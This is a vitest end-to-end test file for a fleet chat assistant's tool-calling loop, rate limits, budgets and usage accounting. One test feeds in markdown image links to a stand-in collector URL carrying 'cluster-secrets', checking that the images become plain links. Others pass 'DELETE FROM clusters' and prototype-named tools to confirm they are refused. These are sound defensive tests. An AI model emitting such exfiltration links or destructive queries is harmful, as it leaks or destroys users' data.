// The chat assistant end to end through the local server on the demo fleet,
// against a local server speaking the OpenAI chat-completions protocol:
// tool rounds, the 12-round stop, malformed arguments, failures, history,
// the rate limit, and the usage ledger's exact costs.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listUsage } from '../../shared/db/llm-usage.js';
import { costOf, priceOf, pricingTable } from '../../shared/llm/pricing.js';
import { MAX_TOOL_ROUNDS } from '../../shared/chat/assistant.js';
import type { LocalService } from '../../infra/local/service.js';
import { startFakeBedrock, type FakeBedrock } from '../support/fake-bedrock.js';
import { openAiReply, startFakeOpenAi, type FakeOpenAi } from '../support/fake-openai.js';
import { startTestService } from '../support/local-service.js';
import { userToken } from '../support/tokens.js';

let service: LocalService;
let openai: FakeOpenAi;
let viewer: string;
let superadmin: string;
const MODEL = 'gpt-4o-mini';

beforeAll(async () => {
  service = await startTestService({ adminPassword: 'chat-admin-password', demoClusters: 20 });
  openai = await startFakeOpenAi({ apiKey: 'sk-test-chat-key' });
  viewer = await userToken('viewer', 'chat-viewer');
  superadmin = await userToken('superadmin', 'chat-super');
}, 120_000);

afterAll(async () => {
  for (const v of ['LLM_PROVIDER', 'LLM_MODEL', 'LLM_BASE_URL', 'LLM_API_KEY', 'LLM_RETRY_BASE_MS', 'LLM_MAX_ATTEMPTS']) delete process.env[v];
  await openai?.close();
  await service?.stop();
});

const configure = () =>
  Object.assign(process.env, {
    LLM_PROVIDER: 'openai',
    LLM_MODEL: MODEL,
    LLM_BASE_URL: openai.baseUrl,
    LLM_API_KEY: 'sk-test-chat-key',
    LLM_RETRY_BASE_MS: '5',
    LLM_MAX_ATTEMPTS: '2',
  });

beforeEach(() => {
  openai.reset();
});

async function say(token: string, message: string): Promise<{ status: number; body: any }> {
  const res = await fetch(`${service.url}/api/chat/message`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ message }),
  });
  return { status: res.status, body: await res.json() };
}
const reset = (token: string) => fetch(`${service.url}/api/chat/reset`, { method: 'POST', headers: { Authorization: `Bearer ${token}` } });
const toolMessages = (i: number) => openai.answered()[i]!.body.messages.filter((m) => m.role === 'tool');

describe('chat without a provider', () => {
  it('answers 503 saying how to configure one', async () => {
    delete process.env.LLM_PROVIDER;
    const { status, body } = await say(viewer, 'hello');
    expect(status).toBe(503);
    expect(body.detail).toMatch(/LLM_PROVIDER=bedrock.*LLM_PROVIDER=openai/);
  });

  it('GET /api/chat/status says so before any message, to every role: the 503 it would get, or the model that answers', async () => {
    const status = async () => {
      const res = await fetch(`${service.url}/api/chat/status`, { headers: { Authorization: `Bearer ${viewer}` } });
      expect(res.status).toBe(200);
      return (await res.json()) as { available: boolean; model: string | null; detail: string | null };
    };
    delete process.env.LLM_PROVIDER;
    const none = await status();
    expect(none).toEqual({ available: false, model: null, detail: (await say(viewer, 'hello')).body.detail });
    // A provider named but not whole is what a message would be refused for, too.
    Object.assign(process.env, { LLM_PROVIDER: 'openai', LLM_MODEL: MODEL });
    delete process.env.LLM_BASE_URL;
    const incomplete = await status();
    expect(incomplete).toMatchObject({ available: false, model: null, detail: expect.stringMatching(/incomplete: set LLM_BASE_URL/) });
    expect((await say(viewer, 'hello')).body.detail).toBe(incomplete.detail);
    process.env.LLM_PROVIDER = 'skynet';
    expect(await status()).toMatchObject({ available: false, detail: expect.stringMatching(/'skynet' is unknown/) });
    configure();
    expect(await status()).toEqual({ available: true, model: MODEL, detail: null });
    // Nothing was asked of the model to say so.
    expect(openai.answered()).toHaveLength(0);
    for (const v of ['LLM_PROVIDER', 'LLM_MODEL', 'LLM_BASE_URL', 'LLM_API_KEY']) delete process.env[v];
    expect((await fetch(`${service.url}/api/chat/status`)).status).toBe(401);
  });
});

describe('the agentic loop (OpenAI-compatible provider)', () => {
  it('runs tools over several rounds, answers, and records every call at its exact cost', async () => {
    configure();
    await reset(viewer);
    const usageBefore = (await listUsage(1)).length;
    openai
      .enqueueToolUse({ name: 'run_sql', input: { sql: 'SELECT count(*) AS n FROM clusters' } }, { usage: { input_tokens: 1200, output_tokens: 30 } })
      .enqueueToolUse(
        [
          { name: 'search_knowledge', input: { query: 'disk full' } },
          { name: 'analyze_logs', input: { cluster: 'no-such-cluster' } },
        ],
        { usage: { input_tokens: 2500, output_tokens: 60 } },
      )
      .enqueueText('There are **20** clusters. See the disk-full runbook.', { usage: { input_tokens: 4000, output_tokens: 90 } });
    const { status, body } = await say(viewer, 'How many clusters are there?');
    expect(status).toBe(200);
    expect(body).toEqual({ reply: 'There are **20** clusters. See the disk-full runbook.', tool_calls: 3, duration_ms: expect.any(Number) });

    // what the tools answered, as the model received it
    const [sql] = toolMessages(1);
    expect(JSON.parse(sql!.content!)).toMatchObject({ columns: ['n'], rows: [[20]] });
    const [knowledge, logs] = toolMessages(2).slice(-2);
    expect(JSON.parse(knowledge!.content!).hits[0].file).toBe('disk-full.md');
    expect(logs!.content).toMatch(/No cluster named/);
    // the model saw the tools with their JSON schemas, run_sql with the snapshot's schema
    const tools = openai.answered()[0]!.body.tools!;
    expect(tools.map((t) => t.function.name).sort()).toEqual(['analyze_logs', 'cluster_info', 'run_sql', 'search_knowledge']);
    expect(tools.find((t) => t.function.name === 'run_sql')!.function.description).toMatch(/clusters/);

    const calls = (await listUsage(1)).slice(usageBefore).filter((u) => u.user === 'chat-viewer');
    expect(calls).toHaveLength(3);
    expect(new Set(calls.map((c) => c.run_id)).size).toBe(1);
    const price = priceOf(await pricingTable(), MODEL);
    expect(calls.map((c) => [c.source, c.model, c.input_tokens, c.output_tokens, c.total_tokens, c.cost_usd, c.error]).sort()).toEqual(
      [
        [1200, 30],
        [2500, 60],
        [4000, 90],
      ]
        .map(([i, o]) => ['chat', MODEL, i, o, i! + o!, costOf(price, i!, o!), false])
        .sort(),
    );
  });

  it('stops after 12 tool rounds with a final answer that says so', async () => {
    configure();
    await reset(viewer);
    for (let i = 0; i < 20; i++) openai.enqueueToolUse({ name: 'search_knowledge', input: { query: `compaction ${i}` } });
    const { status, body } = await say(viewer, 'Keep searching');
    expect(status).toBe(200);
    expect(body.tool_calls).toBe(MAX_TOOL_ROUNDS);
    expect(body.reply).toMatch(/stopped after 12 rounds of tool calls/);
    expect(openai.answered()).toHaveLength(MAX_TOOL_ROUNDS + 1);
    // the history stays valid for the provider: the next message is accepted (strict fake)
    openai.enqueueText('fine');
    expect((await say(viewer, 'and now?')).body.reply).toBe('fine');
  });

  it('says an answer was cut off at the output limit, and what to do; an empty one is not shown as "no text"', async () => {
    configure();
    await reset(viewer);
    openai.enqueue({ kind: 'text', text: 'Three clusters are at risk: c-1 (disk 96%), c-2', finishReason: 'length' });
    const cut = await say(viewer, 'Which clusters are at risk, and why?');
    expect(cut.status).toBe(200);
    expect(cut.body.reply).toMatch(/^Three clusters are at risk: c-1 \(disk 96%\), c-2\n\n_This answer was cut off \(at the output limit/);
    // A reasoning model that spent the whole limit reasoning sends no text at all.
    openai.enqueue({ kind: 'text', text: '', finishReason: 'length' });
    const empty = await say(viewer, 'And the others?');
    expect(empty.body.reply).toMatch(/^I used up my output limit before I could answer\.\n\n_This answer was cut off/);
  });

  it('says the provider\'s content filter withheld or cut an answer, rather than "no text"', async () => {
    configure();
    await reset(viewer);
    // Azure OpenAI: content null and finish_reason content_filter when its filter withholds the completion.
    openai.enqueue({ kind: 'text', text: '', finishReason: 'content_filter' });
    const withheld = await say(viewer, 'Summarise the incident notes of c-1');
    expect(withheld.status).toBe(200);
    expect(withheld.body.reply).toMatch(/^My answer was withheld\.\n\n_The model provider’s content filter withheld or cut this answer/);
    openai.enqueue({ kind: 'text', text: 'The notes say the disk', finishReason: 'content_filter' });
    const cut = await say(viewer, 'And c-2?');
    expect(cut.body.reply).toMatch(/^The notes say the disk\n\n_The model provider’s content filter withheld or cut this answer/);
    // the history stays valid for the provider: the next message is accepted (strict fake)
    openai.enqueueText('fine');
    expect((await say(viewer, 'and now?')).body.reply).toBe('fine');
  });

  it('answers malformed tool arguments with an error result the model can correct', async () => {
    configure();
    await reset(viewer);
    openai
      .enqueueMalformedToolCall('run_sql', '{"sql": "SELECT')
      .enqueueToolUse({ name: 'run_sql', input: { sql: 'DELETE FROM clusters' } })
      .enqueueText('Done.');
    const { body } = await say(viewer, 'query');
    expect(body).toMatchObject({ reply: 'Done.', tool_calls: 2 });
    expect(toolMessages(1)[0]!.content).toMatch(/arguments for run_sql were not valid/);
    expect(toolMessages(2).at(-1)!.content).toMatch(/SELECT/); // the write was refused, with what is allowed
  });

  it('answers a call to a tool that does not exist, even one named like a built-in, with the list of tools', async () => {
    configure();
    await reset(viewer);
    openai
      .enqueueToolUse([
        { name: 'constructor', input: {} },
        { name: 'toString', input: {} },
        { name: '__proto__', input: {} },
        { name: 'no_such_tool', input: {} },
      ])
      .enqueueText('Sorry.');
    const { status, body } = await say(viewer, 'try');
    expect(status).toBe(200);
    expect(body).toMatchObject({ reply: 'Sorry.', tool_calls: 4 });
    const answers = toolMessages(1).map((m) => m.content);
    expect(answers).toHaveLength(4);
    for (const [i, name] of ['constructor', 'toString', '__proto__', 'no_such_tool'].entries())
      expect(answers[i]).toMatch(new RegExp(`^Error: There is no tool "${name}"\\. Tools: .*run_sql`));
  });

  it('a provider failure answers 502, is recorded as an error, and keeps no half turn in the history', async () => {
    configure();
    await reset(viewer);
    openai.enqueueError(500).enqueueError(500);
    const before = (await listUsage(1)).length;
    const { status, body } = await say(viewer, 'hello');
    expect(status).toBe(502);
    expect(body.detail).toMatch(/language model failed/);
    expect(JSON.stringify(body)).not.toContain('sk-test-chat-key');
    const failed = (await listUsage(1)).slice(before);
    expect(failed.map((u) => [u.source, u.error, u.total_tokens, u.cost_usd])).toEqual([['chat', true, 0, 0]]);
    openai.enqueueText('back');
    expect((await say(viewer, 'again')).body.reply).toBe('back');
    expect(
      openai
        .answered()
        .at(-1)!
        .body.messages.filter((m) => m.role === 'user'),
    ).toHaveLength(1); // 'hello' was not kept
  });

  it('keeps the conversation per user until reset', async () => {
    configure();
    await reset(viewer);
    openai.enqueueText('one').enqueueText('two');
    await say(viewer, 'first');
    await say(viewer, 'second');
    const sent = openai
      .answered()[1]!
      .body.messages.filter((m) => m.role !== 'system')
      .map((m) => m.content);
    expect(sent).toEqual(['first', 'one', 'second']);
    const res = await reset(viewer);
    expect(await res.json()).toEqual({ status: 'ok', message: 'Conversation cleared.' });
    openai.enqueueText('three');
    await say(viewer, 'third');
    expect(
      openai
        .answered()[2]!
        .body.messages.filter((m) => m.role !== 'system')
        .map((m) => m.content),
    ).toEqual(['third']);
  });

  it('tells the model who is asking, so "my issues" are theirs: each person their own username', async () => {
    configure();
    await Promise.all([reset(viewer), reset(superadmin)]);
    openai.enqueueText('yours').enqueueText('yours too');
    expect((await say(viewer, 'what is assigned to me?')).status).toBe(200);
    expect((await say(superadmin, 'and to me?')).status).toBe(200);
    const [first, second] = openai.answered().map((a) => a.body.messages.find((m) => m.role === 'system')!.content as string);
    expect(first).toContain('The person asking is the viewer whose username is chat-viewer');
    expect(second).toContain('The person asking is the superadmin whose username is chat-super');
  });

  it('shows no image a reply asks for: every image becomes a link, however many the model writes', async () => {
    configure();
    await reset(superadmin);
    // An image would be fetched from its host when shown, with whatever the URL carries.
    const leak = 'https://collector.example/p.png?d=cluster-secrets';
    const code = "`!['a'].includes(x)`\n\n```js\nif (!['b'].includes(y)) return;\n```";
    // A backquote after a backslash opens no code span: the image between two is an image.
    const escaped = `\\\`x ![hidden](${leak}) \``;
    openai.enqueueText(
      `Chart: ![usage](${leak}) and ![by reference][1] and !![twice](${leak})\n\n[1]: ${leak}\n\n${escaped}\n\n${code}\n${'!['.repeat(100_000)}`,
    );
    const { status, body } = await say(superadmin, 'draw it');
    expect(status).toBe(200);
    expect(body.reply).toContain(`Chart: [usage](${leak}) and [by reference][1] and [twice](${leak})`);
    expect(body.reply).toContain(`\\\`x [hidden](${leak}) \``);
    expect(body.reply).toContain(code); // code keeps its meaning
    expect(body.reply.replace(code, '')).not.toContain('![');
    expect(body.reply).toContain('['.repeat(100_000));
  });

  it('limits each user to 20 messages a minute (429)', async () => {
    configure();
    const busy = await userToken('viewer', 'chat-busy');
    const statuses: number[] = [];
    for (let i = 0; i < 21; i++) statuses.push((await say(busy, `m${i}`)).status);
    expect(statuses.slice(0, 20).every((s) => s === 200)).toBe(true);
    expect(statuses[20]).toBe(429);
    expect((await say(viewer, 'not me')).status).toBe(200);
  });

  it("stops a person's chat for the day once their messages cost the daily budget (429 until 00:00 UTC), others' not", async () => {
    configure();
    process.env.CHAT_DAILY_BUDGET_USD = '0.01';
    try {
      const spender = await userToken('viewer', 'chat-spender');
      // gpt-4o-mini: 60,000 prompt tokens at $0.15 per million = $0.009, under the budget; the second message passes it.
      for (const text of ['first', 'second']) {
        openai.enqueueText(text, { usage: { input_tokens: 60_000, output_tokens: 0 } });
        expect((await say(spender, text)).status).toBe(200);
      }
      const res = await fetch(`${service.url}/api/chat/message`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${spender}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ message: 'third' }),
      });
      const body = (await res.json()) as any;
      expect(res.status).toBe(429);
      expect(body).toMatchObject({ limit: 'daily_budget' });
      expect(body.detail).toBe(
        'Your chat messages today cost $0.02, the daily limit for each person on this service ($0.01); you can chat again from 00:00 UTC.',
      );
      const midnight = new Date();
      midnight.setUTCHours(24, 0, 0, 0);
      const retryAfter = Number(res.headers.get('Retry-After'));
      expect(Math.abs(retryAfter - (midnight.getTime() - Date.now()) / 1000)).toBeLessThan(120);
      // Refused before any model call, and no one else is.
      expect(openai.answered().filter((r) => JSON.stringify(r.body.messages).includes('third'))).toEqual([]);
      openai.enqueueText('fine');
      expect((await say(viewer, 'still me')).status).toBe(200);
    } finally {
      delete process.env.CHAT_DAILY_BUDGET_USD;
    }
  });

  it("answers one of a person's messages at a time under a budget: a parallel one is refused (429) before any model call, and counted after", async () => {
    configure();
    process.env.CHAT_DAILY_BUDGET_USD = '1';
    try {
      const twoTabs = await userToken('viewer', 'chat-two-tabs');
      let release!: () => void;
      const held = new Promise<void>((resolve) => (release = resolve));
      openai.enqueue({ kind: 'held', until: held, then: openAiReply.text('first answer', { input_tokens: 1000, output_tokens: 10 }) });
      const first = say(twoTabs, 'from the first tab');
      await expect.poll(() => openai.received.length).toBe(1);
      // The first message is being answered: the second tab's is refused, and reaches no model.
      const res = await fetch(`${service.url}/api/chat/message`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${twoTabs}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ message: 'from the second tab' }),
      });
      const body = (await res.json()) as any;
      expect(res.status).toBe(429);
      expect(body).toMatchObject({ limit: 'one_at_a_time' });
      const retryAfter = Number(res.headers.get('Retry-After'));
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(32); // the claim lapses after the loop's 27 s deadline and a margin
      expect(openai.received).toHaveLength(1);
      // Someone else is not held up by it.
      openai.enqueueText('fine');
      expect((await say(viewer, 'meanwhile')).status).toBe(200);
      release();
      expect(await first).toMatchObject({ status: 200, body: { reply: 'first answer' } });
      // Its cost was counted as it ended, and the next message may start.
      openai.enqueueText('second answer');
      expect(await say(twoTabs, 'again from the second tab')).toMatchObject({ status: 200, body: { reply: 'second answer' } });
    } finally {
      delete process.env.CHAT_DAILY_BUDGET_USD;
    }
  });

  it('shows chat usage in the LLM usage reports', async () => {
    const summary = await fetch(`${service.url}/api/llm-usage/summary?days=1`, { headers: { Authorization: `Bearer ${superadmin}` } });
    const body = (await summary.json()) as any;
    const rows = body.daily_usage.filter((r: any) => r.source === 'chat' && r.model === MODEL);
    expect(rows.length).toBe(1);
    const calls = (await listUsage(1)).filter((c) => c.source === 'chat' && c.model === MODEL);
    expect(rows[0].runs).toBe(new Set(calls.map((c) => c.run_id)).size);
    expect(rows[0].input_tokens).toBe(calls.reduce((s, c) => s + c.input_tokens, 0));
    expect((await fetch(`${service.url}/api/llm-usage/summary`, { headers: { Authorization: `Bearer ${viewer}` } })).status).toBe(403);
  });
});

describe('the agentic loop (Amazon Bedrock Converse, the real SDK client)', () => {
  const BEDROCK_MODEL = 'anthropic.claude-3-5-haiku-20241022-v1:0';
  let bedrock: FakeBedrock;
  beforeAll(async () => {
    bedrock = await startFakeBedrock();
  });
  afterAll(async () => {
    for (const v of ['AWS_ENDPOINT_URL_BEDROCK_RUNTIME', 'AWS_REGION', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY']) delete process.env[v];
    await bedrock?.close();
  });
  const useBedrock = () => {
    for (const v of ['LLM_BASE_URL', 'LLM_API_KEY']) delete process.env[v];
    Object.assign(process.env, {
      LLM_PROVIDER: 'bedrock',
      LLM_MODEL: BEDROCK_MODEL,
      AWS_ENDPOINT_URL_BEDROCK_RUNTIME: bedrock.endpoint,
      // The SDK's own chain signs Bedrock calls (npm start leaves the caller's credentials alone): the fake's.
      AWS_REGION: 'us-east-1',
      AWS_ACCESS_KEY_ID: 'AKIDCHATE2E',
      AWS_SECRET_ACCESS_KEY: 'chat-e2e-secret',
      LLM_RETRY_BASE_MS: '5',
      LLM_MAX_ATTEMPTS: '3',
    });
  };

  it('runs tools over rounds through ConverseCommand, retries throttling, and costs each call exactly', async () => {
    useBedrock();
    bedrock.reset();
    const admin = await userToken('admin', 'chat-bedrock');
    const before = (await listUsage(1)).length;
    bedrock
      .enqueueError('ThrottlingException')
      .enqueueToolUse({ name: 'cluster_info', input: { cluster: 'no-such-cluster' } }, { usage: { input_tokens: 3000, output_tokens: 50 } })
      .enqueueToolUse(
        { name: 'run_sql', input: { sql: 'SELECT classification, count(*) AS n FROM scores GROUP BY classification ORDER BY classification' } },
        { usage: { input_tokens: 3500, output_tokens: 70 } },
      )
      .enqueueText('All clusters are scored.', { usage: { input_tokens: 5000, output_tokens: 120 } });
    const { status, body } = await say(admin, 'How is the fleet?');
    expect(status).toBe(200);
    expect(body).toMatchObject({ reply: 'All clusters are scored.', tool_calls: 2 });
    const answered = bedrock.answered();
    expect(answered).toHaveLength(4); // the throttled attempt, its retry, and two more rounds
    expect(JSON.stringify(answered[0]!.body)).toBe(JSON.stringify(answered[1]!.body)); // the retry resent the same request
    expect(answered.every((r) => r.modelId === BEDROCK_MODEL && r.body.toolConfig !== undefined)).toBe(true);
    const results = answered[3]!.body.messages.at(-1)!.content as any[];
    expect(results[0].toolResult.content[0].text).toMatch(/"columns":\["classification","n"\]/);
    const calls = (await listUsage(1)).slice(before).filter((u) => u.user === 'chat-bedrock');
    const price = priceOf(await pricingTable(), BEDROCK_MODEL);
    expect(price).toBeDefined();
    expect(calls.map((c) => [c.model, c.input_tokens, c.output_tokens, c.cost_usd]).sort()).toEqual(
      [
        [3000, 50],
        [3500, 70],
        [5000, 120],
      ]
        .map(([i, o]) => [BEDROCK_MODEL, i, o, costOf(price, i!, o!)])
        .sort(),
    );
  });

  it('stops after 12 rounds, keeping the conversation valid for Converse', async () => {
    useBedrock();
    bedrock.reset();
    const admin = await userToken('admin', 'chat-bedrock-2');
    for (let i = 0; i < 15; i++) bedrock.enqueueToolUse({ name: 'search_knowledge', input: { query: `heap ${i}` } });
    const { body } = await say(admin, 'dig');
    expect(body.tool_calls).toBe(MAX_TOOL_ROUNDS);
    expect(body.reply).toMatch(/stopped after 12 rounds/);
    bedrock.enqueueText('ok');
    expect((await say(admin, 'next')).body.reply).toBe('ok'); // the strict fake accepts the history
  });

  it('a Bedrock failure that retries cannot fix answers 502', async () => {
    useBedrock();
    bedrock.reset();
    const admin = await userToken('admin', 'chat-bedrock-3');
    bedrock.enqueueError('ValidationException', { message: 'The model is not enabled in this account' });
    const res = await say(admin, 'hi');
    expect(res.status).toBe(502);
    expect(res.body.detail).toMatch(/language model failed/);
    expect(bedrock.answered()).toHaveLength(1); // a 400 is not retried
  });
});
